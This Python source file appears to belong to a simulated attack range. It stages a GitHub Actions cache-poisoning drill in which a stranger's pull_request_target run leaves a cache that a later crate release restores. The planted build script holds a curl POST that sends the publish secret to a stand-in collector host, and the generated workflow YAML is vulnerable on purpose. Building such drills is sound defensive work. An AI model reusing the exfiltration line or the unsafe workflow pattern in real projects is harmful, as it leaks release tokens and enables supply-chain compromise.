"""A cache that a stranger's pull request has left, and the release that restores it.

The stories: a run of ``pull_request_target`` saves a cache in the scope of the default branch, and hours later the
release job restores what is in it (TanStack, 11 May 2026, CVE-2026-45321: eight hours later, on a release that nobody
had touched; Ultralytics, December 2024). Here it takes the publish token of the job; no log shows a thing.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import TYPE_CHECKING, Any

from bot.errors import InputError
from bot.range.npm_theft import COLLECTOR, dispatch
from bot.range.people import as_person
from bot.range.registries.crates import Crates
from bot.range.registries.theft import (
    BAD,
    GOOD,
    LATER,
    RELEASE,
    TOKEN_NAME,
    UNNOTICED_S,
    RegistryTheft,
    open_shop,
    tried_to,
)
from bot.range.thief import OUTSIDER, Thief

if TYPE_CHECKING:
    from bot.range.server import Range

SIZES = ".github/workflows/sizes.yml"
SCRIPT, HELD = "scripts/sizes.sh", "vendor/build.sh"
NEWER, NEWEST = "release-2", "release-3"  # tokens that mara makes when she believes that it is over
FIXED, AFTER_FIXED = "2.5.0", "2.5.1"  # released too early by mara, and then by the thief
LATEST, AFTER_LATEST = "2.6.0", "2.6.1"  # the same once the cache is back
UNTIL_RELEASE_S = 8 * 3600


def sizes_yaml(key: str) -> str:
    """The workflow that tells in each pull request how large the crate gets; it keeps the tools of the build."""
    return f"""\
name: Sizes
on:
  pull_request_target:

permissions:
  contents: read

jobs:
  sizes:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v5
        with:
          ref: ${{{{ github.event.pull_request.head.sha }}}}
      - uses: actions/cache@v4
        with:
          path: vendor
          key: {key}
      - name: Sizes
        run: ./{SCRIPT}
"""


def release_yaml(key: str, secret: str) -> str:
    """The release; with a key it restores the tools of the build, without one it takes them as they lie in git."""
    step = f"      - uses: actions/cache@v4\n        with:\n          path: vendor\n          key: {key}\n"
    return f"""\
name: Release
on:
  workflow_dispatch:

permissions:
  contents: read

jobs:
  publish:
    runs-on: ubuntu-latest
    env:
      {secret}: ${{{{ secrets.{secret} }}}}
    steps:
      - uses: actions/checkout@v5
{step if key else ""}      - name: Build
        run: ./{HELD}
      - uses: actions/upload-artifact@v4
        with:
          name: crate
      - name: Publish
        run: cargo publish
"""


class PoisonedCache(RegistryTheft):
    """A stranger's pull request leaves a cache; the release restores it, and its build script posts the token."""

    def __init__(self, range_: Range) -> None:
        super().__init__(range_, registry="crates")
        self._key = "tools-v3"
        self._earlier: list[str] = []  # tokens that it took before the one that it holds

    def leak(self) -> dict[str, Any]:
        """A pull request is opened, emptied and closed; eight hours later mara releases, as on any day."""
        shop, state = self._shop, self._range.github.state
        open_shop(self._range, shop)
        files: dict[str, str | bytes | None] = {HELD: "echo built\n", SCRIPT: "echo sizes\n"}
        state.commit_files(shop.repository, files | self._workflows(), "Tell the size of the crate", "mara", runs=False)
        self._range.clock.advance(3600)
        if not self._pull():
            raise InputError("the stranger's pull request has started nothing")
        self._range.clock.advance(UNTIL_RELEASE_S)
        self._run_url = self._release(GOOD)
        said = (
            f"A stranger's pull request to {shop.repository} was opened, emptied and closed within two minutes; a "
            "workflow of pull_request_target has saved a cache. Eight hours later the release restores it. "
            f"The build script in there posts {shop.secret} to a host of the attacker's; the log shows nothing of it:"
        )
        return {"run_url": self._run_url, "package": shop.package, "version": BAD, "story": [said, self._run_url]}

    def _workflows(self, *, cached: bool = True) -> dict[str, str | bytes | None]:
        release = release_yaml(self._key if cached else "", self._shop.secret)
        return {SIZES: sizes_yaml(self._key), RELEASE: release}

    def _pull(self) -> bool:
        """The stranger's pull request: whether a run of it has saved a cache that holds the stranger's file."""
        shop, state = self._shop, self._range.github.state
        fork = f"{OUTSIDER}/{shop.repository.partition('/')[2]}"
        with state.lock:
            repo = state.repos[shop.repository]
            if fork not in state.repos:
                state.add_repo(fork, fork_of=shop.repository)
            branch, good = f"fix-{len(repo.pulls)}", repo.git.refs["refs/heads/main"]
            posts = f'curl -s -X POST -d "{shop.secret}=${shop.secret}" http://{COLLECTOR}/\necho built\n'
            files: dict[str, str | bytes | None] = {HELD: posts, SCRIPT: "echo sizes\n"}
            state.commit_files(fork, files, "Fix a typo", OUTSIDER, branch=branch, runs=False)
            stranger = Thief(self._range, state.add_token(OUTSIDER, scopes=("public_repo",)))
        opened = {"title": "Fix a typo", "head": f"{OUTSIDER}:{branch}", "base": "main"}
        number = stranger.call("POST", f"/repos/{shop.repository}/pulls", opened).json()["number"]
        with state.lock:
            self._range.runner.advance()
            state.repos[fork].git.refs[f"refs/heads/{branch}"] = good
        self._range.clock.advance(60)
        stranger.call("PATCH", f"/repos/{shop.repository}/pulls/{number}", {"state": "closed"})
        return bool(self._poisoned())

    def _poisoned(self) -> list[str]:
        """Keys of the caches that hold the stranger's file."""
        rows = self._range.github.state.repos[self._shop.repository].caches.values()
        return [str(row["key"]) for row in rows if COLLECTOR.encode() in row["files"].get(HELD, b"")]

    def _release(self, version: str) -> str:
        """Mara tags a version and releases it. Returns the address of the run; what it posts is the thief's."""
        shop = self._shop
        files: dict[str, str | bytes | None] = {shop.manifest: shop.text.replace(GOOD, version)}
        self._range.github.state.commit_files(shop.repository, files, f"Release {version}", "mara", runs=False)
        tip = as_person(self._range, "mara", "GET", "/git/ref/heads/main", repository=shop.repository)["object"]["sha"]
        tag = {"ref": f"refs/tags/v{version}", "sha": tip}
        as_person(self._range, "mara", "POST", "/git/refs", tag, shop.repository)
        run = dispatch(self._range, "release.yml", f"v{version}", shop.repository)
        if run["conclusion"] != "success":
            raise InputError(f"the release did not go as planned: {run['status']}, {run['conclusion']}")
        return str(run["html_url"])

    def abuse(self, where: str) -> list[dict[str, Any]]:
        """Publish a version with the token that was posted, and wait until somebody wonders."""
        if where or not self._range.collector.loot:
            raise InputError("nothing has leaked yet; POST /drill/leak first, and give no run_url")
        self._token = self._range.collector.values()[self._shop.secret]
        self._range.clock.advance(3600)
        code, made = self._push(self._token, BAD), f"{self._shop.package} {BAD}"
        self._range.clock.advance(UNNOTICED_S)
        took = f"opened a pull request whose run saved a cache, and was sent {self._shop.secret} by the release"
        return [
            {"act": "github:PoisonCache", "ok": True, "code": "", "made": self._key, "said": took},
            {"act": "crates:Publish", "ok": not code, "code": code, "made": made, "said": f"published {made}"},
        ]

    # what comes of a choice

    @property
    def happens(self) -> dict[str, Callable[[], dict[str, Any]]]:
        """What comes of a choice, by its name."""
        return super().happens | {
            "release-again": self._release_again, "cache-again": self._cache_again, "clear-again": self._clear_again,
        }  # fmt: skip

    @property
    def people(self) -> dict[str, Callable[[], dict[str, Any]]]:
        """What people of the company do."""
        return {"release-without-cache": self._without_cache}

    def _steals_from(self, name: str, version: str, then: str) -> str:
        """A new token, the same cache: what mara's release posts publishes a version. Returns the run's address."""
        shop, server = self._shop, self._range.registries["crates"]
        self._range.github.state.set_secret(shop.repository, shop.secret, server.add_token("mara", name))
        url = self._release(version)
        self._earlier.append(self._token)
        self._token = self._range.collector.values()[shop.secret]
        self._range.clock.advance(3600)
        if self._token in self._earlier or self._push(self._token, then):
            raise InputError(f"the release of {version} has posted no token that works")
        return url

    def _release_again(self) -> dict[str, Any]:
        """The token is rotated, and a good version goes out by the same job, over the bad one."""
        self._range.registries["crates"].revoke(TOKEN_NAME)
        url = self._steals_from(NEWER, FIXED, AFTER_FIXED)
        said = f"Mara revokes the token, stores a new one and releases {FIXED}. The job restores the same cache"
        more = f"and posts the new token too. An hour later {self._shop.package} {AFTER_FIXED} is out."
        return {"run_url": url, "version": AFTER_FIXED, "story": [f"{said}, {more}", url]}

    def _cache_again(self) -> dict[str, Any]:
        """The cache comes back under another key; another pull request fills it."""
        shop = self._shop
        self._key = "tools-v4"
        as_person(self._range, "mara", "PUT", "/actions/workflows/release.yml/enable", None, shop.repository)
        self._range.github.state.commit_files(shop.repository, self._workflows(), "Cache again", "mara", runs=False)
        self._range.clock.advance(3600)
        if not self._pull():
            raise InputError("the second pull request has left no cache")
        self._range.clock.advance(3600)
        self._steals_from(NEWEST, LATEST, AFTER_LATEST)
        said = f"Another stranger opens and closes a pull request. The release of {LATEST} restores what it has left"
        return {"story": [f"{said} under the new key, and an hour later {AFTER_LATEST} is out."]}

    def _clear_again(self) -> dict[str, Any]:
        """Mara does by hand what was done before, and takes the trigger away as well."""
        shop, server = self._shop, self._range.registries["crates"]
        assert isinstance(server, Crates)
        server.revoke(NEWEST)
        with server.lock:
            server.crate(shop.package).versions[AFTER_LATEST].yanked = True
        self._range.github.state.repos[shop.repository].caches.clear()
        as_person(self._range, "mara", "DELETE", f"/actions/secrets/{shop.secret}", None, shop.repository)
        self._without_cache()
        gone: dict[str, str | bytes | None] = {SIZES: None}
        self._range.github.state.commit_files(shop.repository, gone, "No more sizes", "mara", runs=False)
        said = "Mara revokes the token, yanks the version, deletes the caches and the workflow that strangers start."
        return {"story": [said]}

    def _without_cache(self) -> dict[str, Any]:
        """The release takes its tools from git."""
        files = self._workflows(cached=False)
        del files[SIZES]
        self._range.github.state.commit_files(self._shop.repository, files, "Build from git", "mara", runs=False)
        return {"cached": False}

    def tries(self) -> list[dict[str, Any]]:
        """The token that it took last, those before it, what an install gets, and what waits for the next release."""
        if not self._token:
            return []
        delivered = self._range.registries["crates"].delivered(self._shop.package)
        bad = delivered in (BAD, LATER, AFTER_FIXED, AFTER_LATEST)
        left = self._poisoned()
        earlier = [self._try("earlier-token", "publishing with a token that it took before", t) for t in self._earlier]
        return [
            self._try("registry-token", "publishing with the token that it took", self._token),
            *([max(earlier, key=lambda row: not row["refused"])] if earlier else []),
            tried_to("default-install", "its version, as what an install gets", not bad, delivered),
            tried_to("cache", "its file, waiting for the next release", not left, ", ".join(left) or "404"),
        ]

